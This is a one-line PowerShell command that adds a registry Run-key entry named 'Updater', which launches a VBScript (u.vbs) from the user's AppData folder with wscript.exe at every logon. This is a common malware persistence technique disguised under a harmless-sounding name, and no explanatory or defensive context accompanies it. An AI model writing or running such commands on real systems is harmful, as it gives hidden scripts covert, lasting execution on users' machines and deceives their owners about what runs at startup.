Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Updater' -Value "wscript.exe $env:APPDATA\u.vbs"
